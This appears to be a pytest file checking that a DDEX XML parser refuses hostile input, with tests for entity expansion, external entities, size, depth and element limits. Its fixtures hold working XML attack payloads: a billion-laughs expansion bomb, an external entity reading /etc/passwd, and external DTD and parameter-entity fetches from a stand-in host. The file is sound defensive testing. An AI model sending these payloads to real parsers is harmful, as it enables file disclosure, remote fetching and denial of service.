"""Hostile XML is refused with a stable code before anything is expanded or fetched (pure)."""

from __future__ import annotations

import socket
import time

import pytest

from common.errors import DomainError
from interchange import xmlsafe

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"><MessageHeader>
<MessageId>&lol9;</MessageId></MessageHeader></ern:NewReleaseMessage>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"><MessageHeader>
<MessageId>&secret;</MessageId></MessageHeader></ern:NewReleaseMessage>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE NewReleaseMessage SYSTEM "http://198.51.100.7/ern.dtd">
<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://198.51.100.7/evil.dtd"> %remote;]>
<r/>"""


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
    """Every attempt to open a connection is recorded and refused."""
    attempts: list[object] = []

    def refuse(self: socket.socket, address: object) -> None:
        attempts.append(address)
        raise OSError("network access in a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def refusal(data: bytes, **limits: int) -> DomainError:
    with pytest.raises(DomainError) as caught:
        xmlsafe.parse(data, **limits)
    return caught.value


def test_entity_expansion_is_refused_at_the_doctype_without_expanding(no_network):
    started = time.perf_counter()
    error = refusal(BILLION_LAUGHS)

    assert (error.code, error.status, error.detail) == ("XML_FORBIDDEN", 400, {"reason": "dtd"})
    assert time.perf_counter() - started < 0.5
    assert no_network == []


@pytest.mark.parametrize("document", [EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_external_entities_and_dtds_are_refused_and_nothing_is_fetched(document, no_network):
    error = refusal(document)

    assert (error.code, error.detail) == ("XML_FORBIDDEN", {"reason": "dtd"})
    assert no_network == []


def test_an_undeclared_entity_is_malformed_not_resolved():
    error = refusal(b"<a>&secret;</a>")

    assert (error.code, error.detail) == (
        "XML_MALFORMED",
        {"reason": "syntax", "line": 1, "column": 3},
    )


def test_malformed_xml_says_where():
    error = refusal(b"<a>\n  <b></a>")

    assert (error.code, error.status) == ("XML_MALFORMED", 400)
    assert (error.detail["line"], error.detail["column"]) == (2, 7)


def test_an_empty_body_is_malformed():
    assert refusal(b"  \n").detail == {"reason": "empty"}


def test_a_document_over_the_size_limit_is_refused_before_parsing():
    error = refusal(b"<a>" + b"x" * 100 + b"</a>", max_bytes=50)

    assert (error.code, error.status, error.detail) == (
        "MESSAGE_TOO_LARGE",
        413,
        {"size_bytes": 107, "max_bytes": 50},
    )


def test_nesting_deeper_than_the_limit_is_refused():
    deep = b"<a>" * 60 + b"</a>" * 60

    error = refusal(deep)

    assert (error.code, error.detail) == ("XML_FORBIDDEN", {"reason": "depth", "limit": 48})


def test_more_elements_than_the_limit_are_refused():
    wide = b"<a>" + b"<b/>" * 20 + b"</a>"

    error = refusal(wide, max_elements=10)

    assert error.detail == {"reason": "elements", "limit": 10}


def test_a_plain_document_parses():
    root = xmlsafe.parse(b'<e:r xmlns:e="urn:x"><c>1</c><!-- note --><c>2</c></e:r>')

    assert root.tag == "{urn:x}r"
    assert [c.text for c in root] == ["1", "2"]
